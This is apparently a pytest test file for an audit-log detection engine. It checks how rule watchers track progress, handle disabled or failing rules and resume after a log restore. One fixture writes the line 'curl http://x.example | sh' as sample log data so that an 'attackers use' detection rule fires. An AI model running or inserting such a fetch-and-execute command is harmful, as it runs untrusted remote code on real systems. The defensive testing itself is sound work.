"""All rules of all organizations watch: from where, in turns, and what they say when they fail."""

import time
from contextlib import closing
from datetime import timedelta

import pytest
from sqlalchemy import insert

from audit_core.detect.alerts.ledger import select_alerts
from audit_core.detect.rules.catalog import shipped_rules
from audit_core.detect.watching import looking_together, outcomes, rounds
from audit_core.detect.watching.ledger import read_watermark
from audit_core.detect.watching.progress import (
    BlindReason,
    read_beat,
    read_blind_times,
    read_progress,
)
from audit_core.detect.watching.standing import begin_with_what_is_there
from audit_core.detect.watching.watcher import Watcher, Watching
from audit_core.domain.errors import QueryTimeoutError
from audit_core.identity.memberships import ensure_organization
from audit_core.log.store import open_log
from audit_core.state.tables import rule_setting, ruleset
from tests.support.strategies import NOW, entry

ALPHA, BETA = "org-alpha", "org-beta"
REFUSALS, COMMANDS = (
    next(rule for rule in shipped_rules() if rule.title == title)
    for title in ("Many refusals for one actor", "A command that attackers use")
)


@pytest.fixture
def now():
    return [NOW]


@pytest.fixture
def log(tmp_path, now):
    with closing(open_log(f"duckdb:///{tmp_path / 'log.duckdb'}", clock=lambda: now[0])) as opened:
        yield opened


@pytest.fixture(autouse=True)
def _patient(monkeypatch):
    """On a busy machine a turn takes longer than it may."""
    monkeypatch.setattr(rounds, "TURN_S", 60.0)


@pytest.fixture
def watching(log, state, now, monkeypatch):
    # On a busy machine a round would end before all have had their turn.
    monkeypatch.setattr(rounds, "TURN_S", 600.0)
    return Watching(log=log, state=state, clock=lambda: now[0])


def until(true, within_s=20):
    ends_at = time.monotonic() + within_s
    while not true():
        assert time.monotonic() < ends_at
        time.sleep(0.01)


def refused(log, organization, actor, count=20):
    """Refusals that are one alert."""
    log.append(
        [
            entry(
                f"{actor}-{number}",
                organization_id=organization,
                actor_id=actor,
                status_code=403,
                created_at=NOW - timedelta(hours=1),
            )
            for number in range(count)
        ]
    )


def commanded(log, organization, actor):
    """A command that is an alert."""
    log.append(
        [
            entry(
                f"command of {actor}",
                organization_id=organization,
                actor_id=actor,
                action="toolbox_execute_command",
                metadata='{"body": {"command": "curl http://x.example | sh"}}',
                created_at=NOW - timedelta(hours=1),
            )
        ]
    )


def alerts(state, organization=ALPHA, rule=REFUSALS):
    """Whom there are alerts about."""
    with state.read() as connection:
        return sorted(
            one.group["actorId"]
            for one in select_alerts(connection, organization)
            if one.rule_id == rule.id
        )


def settled(state, organization, enabled, at):
    with state.begin() as connection:
        ensure_organization(connection, organization_id=organization, name=organization)
        column = rule_setting.c
        connection.execute(rule_setting.delete().where(column.organization_id == organization))
        connection.execute(ruleset.delete().where(ruleset.c.organization_id == organization))
        connection.execute(
            insert(rule_setting).values(
                organization_id=organization,
                rule_id=REFUSALS.id,
                enabled=enabled,
                switched_on_at=at if enabled else None,
                changed_by="ada",
                changed_at=at,
            )
        )
        version = int((at - NOW).total_seconds()) + 1
        connection.execute(insert(ruleset).values(organization_id=organization, version=version))


def test_what_was_there_before_anything_watched_is_left(log, state, watching):
    refused(log, ALPHA, "before")
    assert watching.look().behind is False
    refused(log, ALPHA, "after")
    refused(log, BETA, "new")
    watching.look()
    assert (alerts(state), alerts(state, BETA)) == (["after"], ["new"])
    with state.read() as connection:
        assert read_beat(connection).begun_at == NOW


def test_a_demo_is_looked_at_from_its_beginning(log, state, watching):
    refused(log, ALPHA, "before")
    begin_with_what_is_there(log, state, now=NOW, from_beginning=True)
    watching.look()
    assert alerts(state) == ["before"]


def test_a_rule_that_is_switched_on_looks_at_what_arrives_from_then(log, state, watching, now):
    watching.look()
    refused(log, ALPHA, "watched")
    watching.look()
    now[0] += timedelta(minutes=1)
    settled(state, ALPHA, False, now[0])
    refused(log, ALPHA, "missed")
    off = now[0]
    watching.look()
    now[0] += timedelta(minutes=9)
    on = now[0]
    settled(state, ALPHA, True, on)
    now[0] += timedelta(seconds=1)
    # Also before it is noticed that the rule is on.
    refused(log, ALPHA, "seen")
    watching.look()
    assert alerts(state) == ["seen", "watched"]
    with state.read() as connection:
        (blind,) = read_blind_times(connection, ALPHA, since=NOW)
        assert read_progress(connection, ALPHA)[REFUSALS.id].off_since is None
    assert (blind.reason, blind.began_at, blind.ended_at) == (BlindReason.OFF, off, on)


def test_a_rule_that_fails_says_so_and_stops_no_other(log, state, watching, now, monkeypatch):
    fails = [True]
    whole = looking_together.look

    def look(log, state, rule, organization_id, **more):
        if fails[0] and rule.id == COMMANDS.id:
            raise QueryTimeoutError("It took too long.", "Ask for less.")
        return whole(log, state, rule, organization_id, **more)

    def progress():
        with state.read() as connection:
            return read_progress(connection, ALPHA).get(COMMANDS.id)

    for module in (looking_together, rounds):
        monkeypatch.setattr(module, "look", look)
    monkeypatch.setattr(outcomes, "RETRY_S", 0.0)
    watching.look()
    refused(log, ALPHA, "seen")
    commanded(log, ALPHA, "late")
    watching.look()
    now[0] += timedelta(minutes=5)
    watching.look()
    assert (alerts(state), alerts(state, rule=COMMANDS)) == (["seen"], [])
    assert progress().problem == "It took too long. Ask for less."
    assert progress().failing_since == NOW
    fails[0] = False
    watching.look()
    assert alerts(state, rule=COMMANDS) == ["late"]
    assert (progress().problem, progress().failing_since) == (None, None)


def test_a_rule_for_which_it_is_too_much_looks_at_less(log, state, watching, now, monkeypatch):
    whole = looking_together.look

    def look(log, state, rule, organization_id, *, head, **more):
        with state.read() as connection:
            mark = read_watermark(connection, organization_id, rule.id)
        if rule.id == REFUSALS.id and head - mark.revision > 60:
            raise QueryTimeoutError("It took too long.", "Ask for less.")
        return whole(log, state, rule, organization_id, head=head, **more)

    for module in (looking_together, rounds):
        monkeypatch.setattr(module, "look", look)
    monkeypatch.setattr(outcomes, "RETRY_S", 0.0)
    watching.look()
    for number in range(10):
        refused(log, ALPHA, f"many-{number}")
    for _ in range(9):
        watching.look()
    assert len(alerts(state)) == 10
    with state.read() as connection:
        assert read_progress(connection, ALPHA)[REFUSALS.id].problem is None


def test_a_fault_of_ours_in_one_rule_stops_no_other(log, state, watching, monkeypatch):
    whole = looking_together.look

    def look(log, state, rule, organization_id, **more):
        if rule.id != REFUSALS.id:
            raise ZeroDivisionError
        return whole(log, state, rule, organization_id, **more)

    for module in (looking_together, rounds):
        monkeypatch.setattr(module, "look", look)
    watching.look()
    refused(log, ALPHA, "seen")
    commanded(log, ALPHA, "late")
    watching.look()
    assert alerts(state) == ["seen"]


def test_one_far_behind_keeps_nobody_waiting(log, state, watching, now, monkeypatch):
    monkeypatch.setattr("audit_core.detect.watching.looking.WRITES_AT_ONCE", 40)
    monkeypatch.setattr(rounds, "TURN_S", 0.0)
    watching.look()
    for number in range(10):
        refused(log, ALPHA, f"many-{number}")
    refused(log, BETA, "one")
    while not alerts(state, BETA):
        assert watching.look().behind
    assert len(alerts(state)) < 10
    now[0] += timedelta(minutes=2)
    monkeypatch.setattr(rounds, "TURN_S", 60.0)
    watching.look()
    with state.read() as connection:
        assert any(one.behind_since == NOW for one in read_progress(connection, ALPHA).values())
    while watching.look().behind:
        pass
    assert len(alerts(state)) == 10
    with state.read() as connection:
        assert all(one.behind_since is None for one in read_progress(connection, ALPHA).values())


def test_a_log_that_was_restored_is_watched_from_where_it_goes_on(
    log, state, watching, now, tmp_path
):
    watching.look()
    refused(log, ALPHA, "kept", 25)
    watching.look()
    refused(log, ALPHA, "lost", 25)
    watching.look()
    now[0] += timedelta(hours=1)
    url = f"duckdb:///{tmp_path / 'restored.duckdb'}"
    with closing(open_log(url, clock=lambda: now[0])) as restored:
        now[0] -= timedelta(hours=1)
        refused(restored, ALPHA, "kept", 25)
        now[0] += timedelta(hours=1)
        # It gives the numbers of what was lost again, before anybody watches.
        refused(restored, ALPHA, "new", 20)
        Watching(log=restored, state=state, clock=lambda: now[0]).look()
        assert alerts(state) == ["kept", "lost", "new"]
        refused(restored, ALPHA, "newer", 20)
        Watching(log=restored, state=state, clock=lambda: now[0]).look()
    assert alerts(state) == ["kept", "lost", "new", "newer"]


def test_the_thread_watches_until_it_is_stopped(log, state, now):
    watcher = Watcher(log=log, state=state, clock=lambda: now[0], look_every_s=0.01)
    try:
        until(lambda: _beat(state) is not None)
        refused(log, ALPHA, "seen")
        until(lambda: alerts(state) == ["seen"])
    finally:
        watcher.stop()
    refused(log, ALPHA, "later")
    assert alerts(state) == ["seen"]


def test_a_look_that_is_stopped_is_no_fault_of_its_rule(log, state, now):
    stopped = [False]
    watching = Watching(log=log, state=state, clock=lambda: now[0], stopped=lambda: stopped[0])
    watching.look()
    refused(log, ALPHA, "seen")
    whole = watching._rounds._read_rules

    def read_rules(organization_id, known):
        whole(organization_id, known)
        stopped[0] = True

    watching._rounds._read_rules = read_rules
    watching.look()
    watching._rounds._read_rules = whole
    assert alerts(state) == []
    stopped[0] = False
    watching.look()
    assert alerts(state) == ["seen"]
    with state.read() as connection:
        assert all(one.problem is None for one in read_progress(connection, ALPHA).values())


def _beat(state):
    with state.read() as connection:
        return read_beat(connection)
